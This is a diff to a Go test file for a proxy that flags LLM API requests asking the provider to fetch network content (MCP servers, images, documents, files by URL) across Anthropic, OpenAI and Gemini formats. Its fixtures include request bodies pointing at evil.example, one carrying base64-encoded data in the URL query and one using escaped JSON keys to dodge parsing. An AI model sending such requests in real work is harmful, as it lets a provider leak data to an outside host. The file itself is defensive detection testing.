@@ -4,8 +4,6 @@ import (
 	"net/http"
 	"strings"
 	"testing"
-
-	"github.com/harnessfacts/harnessfacts/node-agent/usage"
 )
 
 // networkRequests ask the provider to reach the network for the agent, one
@@ -29,12 +27,27 @@ var networkRequests = []struct {
 	{"gemini google_search", "/v1beta/models/g:streamGenerateContent?alt=sse", `{"contents":[],"tools":[{"google_search":{}}]}`, "google_search"},
 	{"gemini urlContext", "/v1/models/g:generateContent", `{"tools":[{"urlContext":{}}]}`, "urlContext"},
 	{"gemini googleSearchRetrieval", "/v1beta/models/g:generateContent", `{"tools":[{"googleSearchRetrieval":{"dynamicRetrievalConfig":{}}}]}`, "googleSearchRetrieval"},
+	// A count of tokens is read as the request it counts: the provider
+	// would connect to the MCP server for its tools' definitions.
+	{"anthropic count_tokens mcp_servers", "/v1/messages/count_tokens", `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}]}`, "mcp_servers"},
+	// Content the provider fetches from the agent's URL, query and all.
+	{"anthropic image by URL", "/v1/messages", `{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/x.png?d=c2VjcmV0"}},{"type":"text","text":"?"}]}]}`, "image content from a URL"},
+	{"anthropic document by URL in a tool result", "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/d.pdf"}}]}]}]}`, "document content from a URL"},
+	{"anthropic escaped key", "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"\u0074ype":"url","\u0075rl":"https://evil.example/x.png"}}]}]}`, "image content from a URL"},
+	{"anthropic system by URL", "/v1/messages", `{"model":"m","system":[{"type":"document","source":{"type":"url","url":"https://evil.example/d.pdf"}}],"messages":[]}`, "document content from a URL"},
+	{"chat image_url", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/x.png","detail":"low"}}]}]}`, "image_url content from a URL"},
+	{"chat image_url as a string", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":"HTTP://evil.example/x.png"}]}]}`, "image_url content from a URL"},
+	{"chat video_url", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://evil.example/v.mp4"}}]}]}`, "video_url content from a URL"},
+	{"responses input_image by URL", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_text","text":"?"},{"type":"input_image","image_url":"https://evil.example/x.png"}]}]}`, "input_image content from a URL"},
+	{"responses input_file by URL", "/v1/responses/compact", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/f.pdf"}]}]}`, "input_file content from a URL"},
+	{"gemini fileData", "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"image/png","fileUri":"https://evil.example/x.png"}}]}]}`, "fileData content from a URI"},
+	{"gemini file_data in a count", "/v1beta/models/g:countTokens", `{"generateContentRequest":{"model":"models/g","contents":[{"parts":[{"file_data":{"file_uri":"gs://evil/x"}}]}]}}`, "file_data content from a URI"},
 }
 
 func TestNetworkTool(t *testing.T) {
 	for _, c := range networkRequests {
 		path, _, _ := strings.Cut(c.path, "?")
-		if got := networkTool(usage.DialectOf(path), parseRequest([]byte(c.body))); got != c.tool {
+		if got := networkTool(requestDialect(path), parseRequest([]byte(c.body))); got != c.tool {
 			t.Errorf("%s: %q; want %q", c.name, got, c.tool)
 		}
 	}
@@ -48,8 +61,16 @@ func TestNetworkTool(t *testing.T) {
 		{"/v1/chat/completions", `{"model":"m","web_search_options":null,"tools":[{"type":"function","function":{"name":"web_search"}}]}`},
 		{"/v1beta/models/g:generateContent", `{"tools":[{"functionDeclarations":[{"name":"google_web_search"}]},{"googleSearch":null}]}`},
 		{"/v1beta/models/g:generateContent", `{"tools":"not a list"}`},
+		// Content inline, and URLs that are no content to fetch: the
+		// agent's own tool calls and their schemas.
+		{"/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]},` +
+			`{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com/","prompt":"x"}}]}],` +
+			`"tools":[{"name":"WebFetch","input_schema":{"type":"object","properties":{"url":{"type":"string","format":"uri"}}}}]}`},
+		{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}},{"type":"text","text":"see https://example.com"}]}]}`},
+		{"/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]},{"type":"function_call","name":"fetch","arguments":"{\"url\":\"https://example.com\"}"}]}`},
+		{"/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}},{"text":"url: https://example.com"}]}]}`},
 	} {
-		if got := networkTool(usage.DialectOf(c.path), parseRequest([]byte(c.body))); got != "" {
+		if got := networkTool(requestDialect(c.path), parseRequest([]byte(c.body))); got != "" {
 			t.Errorf("%s %s: %q; want none", c.path, c.body, got)
 		}
 	}
